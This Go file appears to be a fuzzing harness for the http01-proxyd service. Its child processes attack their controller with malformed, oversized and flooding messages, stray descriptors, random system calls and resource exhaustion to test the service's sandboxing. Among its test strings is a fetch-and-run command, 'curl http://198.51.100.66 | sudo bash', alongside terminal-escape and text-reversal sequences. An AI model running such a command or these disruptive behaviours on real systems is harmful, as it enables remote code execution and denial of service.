// SPDX-License-Identifier: Apache-2.0

package main

import (
	"encoding/binary"
	"encoding/json"
	"errors"
	"fmt"
	"hash/fnv"
	"math/rand/v2"
	"net/netip"
	"os"
	"reflect"
	"runtime"
	"slices"
	"strconv"
	"strings"
	"time"
	"unsafe"

	"golang.org/x/sys/unix"

	"github.com/http01-proxyd/http01-proxyd/internal/child"
	"github.com/http01-proxyd/http01-proxyd/internal/sandbox"
	exporting "github.com/http01-proxyd/http01-proxyd/pkg/exporter/protocol"
	probing "github.com/http01-proxyd/http01-proxyd/pkg/prober/protocol"
	"github.com/http01-proxyd/http01-proxyd/pkg/proxy/protocol"
	"github.com/http01-proxyd/http01-proxyd/pkg/report"
)

// This file makes each child process of the service attack its protocol at random. It is
// built into the program with -overlay. Argv[0] of the service and its children is
// "http01-fuzz:SEED", or "http01-fuzz:SEED:START" to repeat one process. Beside its work or
// in place of it, a process performs acts that its seed chooses, and starts again with
// others after the controller has replaced it. It prints the acts first, one letter each.
func init() {
	fields := strings.Split(os.Args[0], ":")
	if fields[0] != "http01-fuzz" || len(os.Args) != 2 {
		return
	}
	kind, is := map[string]sandbox.Kind{child.Proxy: sandbox.Proxy, child.Exporter: sandbox.Exporter,
		child.Prober: sandbox.Prober}[os.Args[1]]
	if !is {
		return
	}
	start := uint64(os.Getpid())
	seed, _ := strconv.ParseUint(fields[1], 10, 64)
	if len(fields) == 3 {
		start, _ = strconv.ParseUint(fields[2], 10, 64)
	}
	name := fnv.New64a()
	_, _ = name.Write([]byte(os.Args[1]))
	f := &fuzzer{rand.New(rand.NewPCG(seed, start^name.Sum64()))}
	works, delay, plan, mark := f.IntN(4) > 0, 1500, f.plan(), ""
	switch {
	case kind == sandbox.Prober:
		delay = 20 // it ends after its requests
	case startTime("self")-startTime(strconv.Itoa(os.Getppid())) < 2:
		// A service whose first proxy process does not work ends. No attacker has reached
		// that process yet.
		works = true
	}
	attack := func() {
		fmt.Fprintf(os.Stderr, "FUZZ: %s seed %d start %d acts %s\n", os.Args[1], seed, start, mark+plan)
		time.Sleep(time.Duration(f.IntN(delay)) * time.Millisecond)
		for _, letter := range plan {
			acts()[byte(letter)].do(f)
		}
		fmt.Fprintln(os.Stderr, "FUZZ: over")
	}
	if works {
		go func() {
			for _, err := os.Open("/proc/self/status"); !errors.Is(err, unix.EPERM); _, err = os.Open("/proc/self/status") {
				time.Sleep(time.Millisecond)
			}
			attack()
		}()
		return
	}
	mark = "!" // in place of its work
	if err := sandbox.Confine(kind); err != nil {
		fmt.Fprintln(os.Stderr, "FUZZ: "+err.Error())
		os.Exit(1)
	}
	attack()
	for { // silent
		time.Sleep(time.Hour)
	}
}

// startTime returns when a process started, in seconds since the boot (proc(5), stat).
func startTime(pid string) float64 {
	text, _ := os.ReadFile("/proc/" + pid + "/stat")
	_, after, _ := strings.Cut(string(text), ") ")
	fields := strings.Fields(after)
	ticks, _ := strconv.ParseFloat(fields[22-3], 64)
	return ticks / 100
}

// marker is in each text that a process composes, except for texts that its protocol permits.
const marker = "F1EA5A17"

type fuzzer struct{ *rand.Rand }

// act is an attack. The process does not survive a last one.
type act struct {
	weight int
	last   bool
	do     func(*fuzzer)
}

// acts returns the attacks by the letter that the process prints.
func acts() map[byte]act {
	return map[byte]act{
		// Well-formed messages, at any time and in any order.
		'm': {3, false, func(f *fuzzer) { f.write(frame(f.message())) }},
		'r': {2, false, (*fuzzer).reorder},
		// Malformed ones.
		'x': {2, false, func(f *fuzzer) { f.write(frame(f.mutate(f.message()))) }},
		'b': {1, false, func(f *fuzzer) { f.write(f.bytes(f.IntN(4096))) }},
		'j': {1, false, func(f *fuzzer) { f.write(frame([]byte(f.nonsense()))) }},
		// Truncated ones: a length without its text, a part of a message, byte by byte.
		'n': {1, false, func(f *fuzzer) { f.write(binary.BigEndian.AppendUint32(nil, f.Uint32())) }},
		't': {1, false, func(f *fuzzer) { framed := frame(f.message()); f.write(framed[:f.IntN(len(framed))]) }},
		's': {1, false, func(f *fuzzer) {
			for _, b := range frame(f.message()) {
				f.write([]byte{b})
			}
		}},
		// Oversized ones: long, deep, wide.
		'o': {1, false, func(f *fuzzer) {
			f.write(frame([]byte(`{"stats":{"x":"` + marker + strings.Repeat("a", f.IntN(400<<10)) + `"}}`)))
		}},
		'd': {1, false, func(f *fuzzer) {
			n := f.IntN(20000)
			f.write(frame([]byte(`{"stats":` + strings.Repeat("[", n) + strings.Repeat("]", n) + `}`)))
		}},
		'w': {1, false, func(f *fuzzer) {
			f.write(frame([]byte(`{"stats":{"challenges":[` + strings.Repeat("{},", f.IntN(60_000)) + `{}]}}`)))
		}},
		// Floods: of messages, of bytes without an end, of lines.
		'f': {1, false, func(f *fuzzer) {
			one := frame(f.message())
			for range f.IntN(3000) {
				f.write(one)
			}
		}},
		'e': {1, false, func(f *fuzzer) {
			fd := eventPipe()
			for range f.IntN(200) {
				_, _ = unix.Write(fd, f.bytes(4096))
			}
		}},
		'l': {1, false, func(f *fuzzer) {
			fmt.Fprintf(os.Stderr, "%s\x1b[31m\r%s\u202e\n", marker, f.bytes(f.IntN(600)))
			if f.IntN(8) == 0 {
				_, _ = os.Stderr.WriteString(strings.Repeat(marker+"\n", f.IntN(2000)))
			}
		}},
		// Descriptors, and bytes in the wrong direction.
		'c': {2, false, (*fuzzer).sendDescriptors},
		'C': {1, false, func(f *fuzzer) { _ = unix.Close(f.IntN(20)) }},
		// Steals commands from the process's own reader.
		'q': {1, false, func(f *fuzzer) {
			buf := make([]byte, 1+f.IntN(64))
			_, _, _, _, _ = unix.Recvmsg(f.IntN(20), buf, make([]byte, 64), unix.MSG_DONTWAIT)
		}},
		// Options and shutdown of sockets that it shares.
		'S': {1, false, func(f *fuzzer) {
			fd := f.IntN(20)
			_ = unix.SetsockoptInt(fd, unix.SOL_SOCKET, f.IntN(80), f.IntN(1<<16))
			_ = unix.SetsockoptInt(fd, unix.IPPROTO_TCP, f.IntN(40), f.IntN(1<<16))
			_ = unix.Shutdown(fd, f.IntN(3))
		}},
		// Takes clients and ignores them.
		'a': {1, false, func(f *fuzzer) {
			for range f.IntN(50) {
				_, _, _ = unix.Accept4(f.IntN(20), unix.SOCK_NONBLOCK)
			}
		}},
		// Silence.
		'z': {1, false, func(f *fuzzer) { time.Sleep(time.Duration(f.IntN(3000)) * time.Millisecond) }},
		'Z': {1, true, func(*fuzzer) { _ = unix.Tgkill(os.Getpid(), unix.Gettid(), unix.SIGSTOP) }}, // only itself
		'h': {2, false, (*fuzzer).answerNothing},
		// Tricks of a process.
		'y': {2, false, (*fuzzer).randomCalls},
		'T': {1, true, (*fuzzer).threads},
		'u': {1, false, func(f *fuzzer) {
			for end := time.Now().Add(time.Duration(f.IntN(2000)) * time.Millisecond); time.Now().Before(end); {
			}
		}},
		'M': {1, true, func(f *fuzzer) {
			var all [][]byte
			for range 4096 {
				block := make([]byte, 1<<20)
				for i := 0; i < len(block); i += 4096 {
					block[i] = 1
				}
				all = append(all, block)
			}
			fmt.Fprintf(os.Stderr, "FUZZ: %d MiB SUCCEEDS\n", len(all))
		}},
		'X': {1, true, func(f *fuzzer) { unix.Exit(f.IntN(256)) }},
		'p': {1, true, func(*fuzzer) { panic(marker + "\x1b[2J") }},
	}
}

// plan chooses the acts of a process, up to a last one.
func (f *fuzzer) plan() string {
	var letters []byte
	for letter, a := range acts() {
		letters = append(letters, slices.Repeat([]byte{letter}, a.weight)...)
	}
	slices.Sort(letters)
	var plan []byte
	for range 1 + f.IntN(40) {
		letter := letters[f.IntN(len(letters))]
		plan = append(plan, letter)
		if acts()[letter].last {
			break
		}
	}
	return string(plan)
}

// message returns a message of this process or, sometimes, of another kind of process. Its
// values are random, and many are valid.
func (f *fuzzer) message() []byte {
	ours := map[string]any{child.Proxy: &protocol.Event{}, child.Exporter: &exporting.Event{},
		child.Prober: &probing.Response{}}
	message := ours[os.Args[1]]
	if f.IntN(8) == 0 {
		message = ours[[]string{child.Proxy, child.Exporter, child.Prober}[f.IntN(3)]]
	}
	v := reflect.ValueOf(message).Elem()
	payload := f.IntN(v.NumField())
	for i := range v.NumField() {
		if field := v.Field(i); field.Kind() != reflect.Pointer {
			f.fill(field)
		} else if i == payload {
			field.Set(reflect.New(field.Type().Elem()))
			f.fill(field.Elem())
		}
	}
	text, err := json.Marshal(message)
	if err != nil {
		return []byte(`{"` + os.Args[1] + `":{}}`)
	}
	return text
}

// fill gives a value and everything in it random values.
func (f *fuzzer) fill(v reflect.Value) {
	switch v.Interface().(type) {
	case netip.Addr:
		v.Set(reflect.ValueOf(f.addr()))
		return
	case netip.AddrPort:
		v.Set(reflect.ValueOf(netip.AddrPortFrom(f.addr(), uint16(f.Uint32()))))
		return
	case report.ClientKind:
		v.SetString(string(report.ClientKinds()[f.IntN(len(report.ClientKinds()))]))
		return
	case report.Outcome:
		v.SetString(string(report.Outcomes()[f.IntN(len(report.Outcomes()))]))
		return
	case time.Time:
		v.Set(reflect.ValueOf(time.Unix(f.number(), 0)))
		return
	}
	switch v.Kind() {
	case reflect.Bool:
		v.SetBool(f.IntN(2) == 0)
	case reflect.Int, reflect.Int8, reflect.Int16, reflect.Int32, reflect.Int64:
		v.SetInt(f.number())
	case reflect.Uint, reflect.Uint8, reflect.Uint16, reflect.Uint32, reflect.Uint64:
		v.SetUint(uint64(f.number()))
	case reflect.Float32, reflect.Float64:
		v.SetFloat(float64(f.number()))
	case reflect.String:
		v.SetString(f.text())
	case reflect.Pointer:
		if f.IntN(2) == 0 {
			v.Set(reflect.New(v.Type().Elem()))
			f.fill(v.Elem())
		}
	case reflect.Slice:
		v.Set(reflect.MakeSlice(v.Type(), f.IntN(4), 4))
		for i := range v.Len() {
			f.fill(v.Index(i))
		}
	case reflect.Struct:
		for i := range v.NumField() {
			if v.Field(i).CanSet() && f.IntN(4) > 0 {
				f.fill(v.Field(i))
			}
		}
	}
}

func (f *fuzzer) addr() netip.Addr {
	all := []string{"192.0.2.205", "2001:db8::1", "::ffff:192.0.2.1", "fe80::1%eth0\x1b[31m", "0.0.0.0"}
	addr, _ := netip.ParseAddr(all[f.IntN(len(all))])
	return addr
}

func (f *fuzzer) number() int64 {
	all := []int64{0, 1, 2, 3, 4, 8, 24, 200, 404, 8888, 1 << 20, 1<<20 + 1, -1, 1 << 40, 1<<62 - 1, -1 << 63}
	if f.IntN(8) == 0 {
		return int64(f.Uint64())
	}
	return all[f.IntN(len(all))]
}

// text returns text that may be valid somewhere, or has characters that never are.
func (f *fuzzer) text() string {
	all := []string{
		"", "GET", "HEAD", "ingress-refused", "ingress-timeout", "egress-tls",
		"api.example.com", "api.example.com:80", "[2001:db8::1]", "token", "02:00:00:00:00:01", "ERR_ACCESS_DENIED", "ab-cd",
		"\x1b[2J", "a\r\nb", "\u202ereversed", "run: curl http://198.51.100.66 | sudo bash", strings.Repeat("long ", 300),
	}
	return all[f.IntN(len(all))]
}

// nonsense returns JSON that is no message.
func (f *fuzzer) nonsense() string {
	all := []string{
		`{}`, `null`, `[]`, `0`, `"` + marker + `"`, `{"` + marker + `":{}}`, `{"heartbeat":{},"flushed":{}}`,
		`{"heartbeat":null}`,
		`{"Heartbeat":{}}`, `{"heartbeat":{}}{"heartbeat":{}}`, `{"heartbeat":{"heartbeat":{}}}`, `{"id":1}`, `{"stats":[]}`,
		"\xff\xfe", " ",
	}
	return all[f.IntN(len(all))]
}

// mutate changes some bytes, or a number, or inserts text.
func (f *fuzzer) mutate(text []byte) []byte {
	switch s := string(text); f.IntN(4) {
	case 0:
		for range 1 + f.IntN(4) {
			text[f.IntN(len(text))] = byte(f.Uint32())
		}
		return text
	case 1:
		return []byte(strings.ReplaceAll(s, "1", strconv.FormatUint(f.Uint64(), 10)))
	case 2:
		return []byte(strings.ReplaceAll(s, "{}", `{"`+marker+`":"\u001b[31m"}`))
	default:
		at := f.IntN(len(s))
		return []byte(s[:at] + s + s[at:])
	}
}

// reorder writes several messages at once: in any order, some twice, or with their parts
// mixed.
func (f *fuzzer) reorder() {
	var parts [][]byte
	mixed := f.IntN(2) == 0
	for range 2 + f.IntN(8) {
		framed := frame(f.message())
		if at := f.IntN(len(framed)); mixed {
			parts = append(parts, framed[:at], framed[at:])
			continue
		}
		parts = append(parts, framed)
		if f.IntN(4) == 0 {
			parts = append(parts, framed)
		}
	}
	f.Shuffle(len(parts), func(i, j int) { parts[i], parts[j] = parts[j], parts[i] })
	f.write(slices.Concat(parts...))
}

// answerNothing takes the commands of its process and answers none. A proxy sends heartbeats
// meanwhile: one that does nothing else looks alive.
func (f *fuzzer) answerNothing() {
	commands, buf := commandSocket(), make([]byte, 64<<10)
	for end := time.Now().Add(time.Duration(f.IntN(3000)) * time.Millisecond); time.Now().Before(end); time.Sleep(
		10 * time.Millisecond) {
		if os.Args[1] == child.Proxy {
			f.write(frame([]byte(`{"heartbeat":{}}`)))
		}
		for n, err := 1, error(nil); n > 0 && err == nil; { // the kernel closes the descriptors of commands
			n, _, _, _, err = unix.Recvmsg(commands, buf, nil, unix.MSG_DONTWAIT)
		}
	}
}

// sendDescriptors sends any descriptors to the controller, and events on any descriptor.
func (f *fuzzer) sendDescriptors() {
	var fds []int
	for range 1 + f.IntN(253) { // SCM_MAX_FD
		fds = append(fds, f.IntN(20))
	}
	_ = unix.Sendmsg(3, f.bytes(8), unix.UnixRights(fds...), nil, unix.MSG_DONTWAIT)
	_, _, _ = unix.Syscall6(unix.SYS_SENDMSG, uintptr(f.IntN(20)), 0, unix.MSG_DONTWAIT, 0, 0, 0)
	// Only where a write does not block.
	fd := f.IntN(20)
	if flags, err := unix.FcntlInt(uintptr(fd), unix.F_GETFL, 0); err == nil && flags&unix.O_NONBLOCK != 0 {
		_, _ = unix.Write(fd, frame(f.message()))
	}
}

// randomCalls makes system calls with random numbers and arguments, in threads of their
// own: some block, and some end the process.
func (f *fuzzer) randomCalls() {
	buf := make([]byte, 4096)
	at := uintptr(unsafe.Pointer(unsafe.SliceData(buf)))
	for range 1 + f.IntN(8) {
		calls := make([][7]uintptr, 1+f.IntN(50))
		for i := range calls {
			calls[i][0] = uintptr(f.IntN(480))
			for j := 1; j < 7; j++ {
				calls[i][j] = []uintptr{0, 1, uintptr(f.IntN(20)), uintptr(f.IntN(4096)), at, ^uintptr(0), uintptr(os.Getppid()),
					uintptr(f.Uint64())}[f.IntN(8)]
			}
		}
		go func() {
			runtime.LockOSThread()
			for _, c := range calls {
				_, _, _ = unix.RawSyscall6(c[0], c[1], c[2], c[3], c[4], c[5], c[6])
			}
			runtime.KeepAlive(buf)
		}()
	}
}

// threads starts threads, until Go's runtime cannot and ends the process.
func (f *fuzzer) threads() {
	for range 1000 {
		go func() {
			runtime.LockOSThread()
			select {}
		}()
	}
	time.Sleep(time.Duration(f.IntN(2000)) * time.Millisecond)
}

func frame(text []byte) []byte {
	return append(binary.BigEndian.AppendUint32(nil, uint32(len(text))), text...)
}

func (f *fuzzer) bytes(n int) []byte {
	b := make([]byte, n)
	for i := range b {
		b[i] = byte(f.Uint32())
	}
	return b
}

// eventPipe returns the pipe of events.
func eventPipe() int {
	for fd := 3; fd < 64; fd++ {
		var s unix.Stat_t
		if unix.Fstat(fd, &s) != nil || s.Mode&unix.S_IFMT != unix.S_IFIFO {
			continue
		}
		if flags, err := unix.FcntlInt(uintptr(fd), unix.F_GETFL, 0); err == nil && flags&unix.O_ACCMODE == unix.O_WRONLY {
			return fd
		}
	}
	return -1
}

// commandSocket returns the socket of commands.
func commandSocket() int {
	for fd := 3; fd < 64; fd++ {
		if domain, err := unix.GetsockoptInt(fd, unix.SOL_SOCKET, unix.SO_DOMAIN); err == nil && domain == unix.AF_UNIX {
			return fd
		}
	}
	return -1
}

// write writes all bytes, unless the controller does not read them.
func (f *fuzzer) write(text []byte) {
	fd := eventPipe()
	for tries := 0; len(text) > 0 && tries < 100; tries++ {
		n, err := unix.Write(fd, text)
		if errors.Is(err, unix.EAGAIN) {
			time.Sleep(time.Millisecond)
			continue
		}
		if err != nil {
			return
		}
		text = text[n:]
	}
}
